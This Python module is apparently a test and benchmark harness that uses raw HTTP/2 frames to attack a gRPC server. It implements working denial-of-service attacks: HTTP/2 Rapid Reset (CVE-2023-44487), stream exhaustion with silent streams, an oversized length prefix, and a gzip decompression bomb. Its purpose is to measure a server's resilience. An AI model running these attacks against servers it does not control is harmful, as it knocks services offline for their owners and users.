"""Raw HTTP/2 attacks on a gRPC port, written frame by frame with the ``h2`` package over a plain
socket: what grpcio's own client never sends (streams reset as soon as opened, streams that never
send a message, a length prefix far above the limit, a compressed message that inflates 1000×).

Used by tests/test_h2_attacks.py (each attack scaled down, against a real server) and by hand
(``python -m bench.h2attack PORT ATTACK``) to measure a server. Every loop is bounded in time or
count; nothing here is imported by the server.
"""

from __future__ import annotations

import argparse
import collections
import json
import select
import socket
import struct
import time
import zlib
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

CLASSIFY = "/cnnserve.v1.Classifier/Classify"


def grpc_headers(path: str = CLASSIFY, encoding: str | None = None) -> list[tuple[str, str]]:
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if encoding:
        headers.append(("grpc-encoding", encoding))
    return headers


@dataclass
class Outcome:
    """What the server did to one attacking connection."""

    streams_opened: int = 0
    seconds: float = 0.0
    goaway: bool = False
    goaway_error: int | None = None
    closed: bool = False  # the server closed the TCP connection
    resets: int = 0  # RST_STREAM frames from the server
    refused: int = 0  # ... of which REFUSED_STREAM
    statuses: dict[str, int] = field(default_factory=dict)  # grpc-status -> count
    messages: list[str] = field(default_factory=list)  # first few grpc-message values
    max_concurrent_streams: int | None = None  # the server's SETTINGS
    data_sent: int = 0

    def as_dict(self) -> dict:
        return self.__dict__ | {"messages": self.messages[:3]}


class Attacker:
    """One client HTTP/2 connection on a plain socket (prior knowledge, as gRPC does)."""

    def __init__(self, port: int, host: str = "127.0.0.1", timeout: float = 10) -> None:
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_inbound_headers=False)
        )
        self.conn.initiate_connection()
        self.outcome = Outcome()
        self.flush()
        self.pump(wait=1.0, until=lambda: self.outcome.max_concurrent_streams is not None or self.settled)

    @property
    def settled(self) -> bool:
        return self.outcome.closed or self.outcome.goaway

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data and not self.outcome.closed:
            try:
                self.sock.sendall(data)
            except OSError:
                self.outcome.closed = True

    def pump(self, wait: float = 0.0, until=None) -> None:
        """Read and handle what the server sent, for up to ``wait`` seconds or until ``until()``."""
        deadline = time.monotonic() + wait
        while not self.outcome.closed and not (until is not None and until()):
            remaining = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], remaining)
            if ready:
                try:
                    data = self.sock.recv(1 << 20)
                except OSError:
                    data = b""
                if not data:
                    self.outcome.closed = True
                    break
                try:
                    events = self.conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    self.outcome.closed = True
                    break
                for event in events:
                    self._handle(event)
                self.flush()
            if (until is not None and until()) or time.monotonic() >= deadline:
                break

    def _handle(self, event) -> None:
        o = self.outcome
        if isinstance(event, h2.events.RemoteSettingsChanged):
            changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            if changed is not None:
                o.max_concurrent_streams = changed.new_value
        elif isinstance(event, h2.events.ConnectionTerminated):
            o.goaway, o.goaway_error = True, int(event.error_code)
        elif isinstance(event, h2.events.StreamReset):
            o.resets += 1
            o.refused += int(event.error_code) == 7
        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            headers = dict(event.headers)
            if "grpc-status" in headers:
                o.statuses[headers["grpc-status"]] = o.statuses.get(headers["grpc-status"], 0) + 1
                if len(o.messages) < 8:
                    o.messages.append(headers.get("grpc-message", ""))
        elif isinstance(event, h2.events.DataReceived):
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def open_stream(self, end_stream: bool = False, encoding: str | None = None) -> int | None:
        """HEADERS for a new Classify call; None once the connection is gone or refuses streams."""
        if self.settled:
            return None
        stream_id = self.conn.get_next_available_stream_id()
        try:
            self.conn.send_headers(stream_id, grpc_headers(encoding=encoding), end_stream=end_stream)
        except (h2.exceptions.ProtocolError, h2.exceptions.StreamIDTooLowError):
            return None
        self.outcome.streams_opened += 1
        return stream_id

    def close(self) -> None:
        try:
            self.conn.close_connection()
            self.flush()
        finally:
            self.sock.close()


def _unbounded(attacker: Attacker) -> None:
    # The attacker ignores the server's MAX_CONCURRENT_STREAMS (as a hostile client would): h2
    # enforces the peer's limit on our side, so lift it (h2 keeps each setting in a deque whose
    # head is the value in force); grpc-core must refuse on its own.
    code = h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS
    attacker.conn.remote_settings._settings[code] = collections.deque([2**31 - 1])


def rapid_reset(port: int, seconds: float, batch: int = 100) -> Outcome:
    """HEADERS then RST_STREAM(CANCEL) on new stream ids, ``batch`` pairs per write, for ``seconds``
    or until the server sends GOAWAY / closes (CVE-2023-44487)."""
    a = Attacker(port)
    _unbounded(a)
    started = time.monotonic()
    while time.monotonic() - started < seconds and not a.settled:
        for _ in range(batch):
            stream_id = a.open_stream()
            if stream_id is None:
                break
            a.conn.reset_stream(stream_id, error_code=8)  # CANCEL
        a.flush()
        a.pump()
    a.outcome.seconds = time.monotonic() - started
    a.pump(wait=0.5, until=lambda: a.settled)
    a.close()
    return a.outcome


def silent_streams(port: int, streams: int, hold: float) -> Outcome:
    """``streams`` Classify calls opened with HEADERS only (no message, no END_STREAM), held for
    ``hold`` seconds while the server's answers (resets, statuses, GOAWAY) are counted."""
    a = Attacker(port)
    _unbounded(a)
    started = time.monotonic()
    for _ in range(streams):
        if a.open_stream() is None:
            break
    a.flush()
    a.pump(wait=hold, until=lambda: a.settled)
    a.outcome.seconds = time.monotonic() - started
    a.close()
    return a.outcome


def large_prefix(port: int, declared: int, send: int, seconds: float = 5) -> Outcome:
    """One call whose 5-byte gRPC prefix declares ``declared`` bytes, then up to ``send`` bytes of
    it within flow control, the stream held open until the server ends it or ``seconds`` pass."""
    a = Attacker(port)
    stream_id = a.open_stream()
    assert stream_id is not None
    a.conn.send_data(stream_id, struct.pack(">BI", 0, min(declared, 2**32 - 1)))
    a.flush()
    chunk = b"\0" * 16384
    started = time.monotonic()
    ended = lambda: a.settled or bool(a.outcome.statuses) or a.outcome.resets > 0  # noqa: E731
    while a.outcome.data_sent < send and time.monotonic() - started < seconds and not ended():
        try:
            window = min(a.conn.local_flow_control_window(stream_id), a.conn.max_outbound_frame_size)
        except (h2.exceptions.StreamClosedError, KeyError):
            break
        if window <= 0:
            a.pump(wait=0.05)
            continue
        n = min(window, len(chunk), send - a.outcome.data_sent)
        try:
            a.conn.send_data(stream_id, chunk[:n])
        except h2.exceptions.ProtocolError:
            break
        a.outcome.data_sent += n
        a.flush()
        a.pump()
    # Then hold the stream open (a client that will never finish its message) until the server
    # ends it or ``seconds`` have passed.
    a.pump(wait=max(0.0, seconds - (time.monotonic() - started)), until=ended)
    a.outcome.seconds = time.monotonic() - started
    a.close()
    return a.outcome


def gzip_bomb(inflated: int) -> bytes:
    """A gzip stream of ``inflated`` zero bytes (about inflated / 1000 on the wire)."""
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    parts = []
    for _ in range(inflated // len(block)):
        parts.append(z.compress(block))
    parts.append(z.compress(b"\0" * (inflated % len(block))))
    parts.append(z.flush())
    return b"".join(parts)


def compressed_message(port: int, payload: bytes, encoding: str = "gzip", seconds: float = 20) -> Outcome:
    """One call with ``grpc-encoding: encoding`` whose message (compressed flag set) is ``payload``."""
    a = Attacker(port)
    stream_id = a.open_stream(encoding=encoding)
    assert stream_id is not None
    message = struct.pack(">BI", 1, len(payload)) + payload
    started = time.monotonic()
    ended = lambda: a.settled or bool(a.outcome.statuses) or a.outcome.resets > 0  # noqa: E731
    offset = 0
    while offset < len(message) and time.monotonic() - started < seconds and not ended():
        window = min(a.conn.local_flow_control_window(stream_id), a.conn.max_outbound_frame_size)
        if window <= 0:
            a.pump(wait=0.05)
            continue
        piece = message[offset : offset + window]
        offset += len(piece)
        a.conn.send_data(stream_id, piece, end_stream=offset >= len(message))
        a.outcome.data_sent += len(piece)
        a.flush()
        a.pump()
    a.pump(wait=max(0.0, seconds - (time.monotonic() - started)), until=ended)
    a.outcome.seconds = time.monotonic() - started
    a.close()
    return a.outcome


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("port", type=int)
    p.add_argument("attack", choices=["rapid-reset", "silent-streams", "large-prefix", "gzip"])
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--streams", type=int, default=600)
    p.add_argument("--bytes", type=int, default=64 << 20, help="data sent (large-prefix) / inflated size (gzip)")
    args = p.parse_args()
    if args.attack == "rapid-reset":
        out = rapid_reset(args.port, args.seconds)
    elif args.attack == "silent-streams":
        out = silent_streams(args.port, args.streams, args.seconds)
    elif args.attack == "large-prefix":
        out = large_prefix(args.port, 2**32 - 1, args.bytes, args.seconds)
    else:
        out = compressed_message(args.port, gzip_bomb(args.bytes), seconds=args.seconds)
    print(json.dumps(out.as_dict()))


if __name__ == "__main__":
    main()
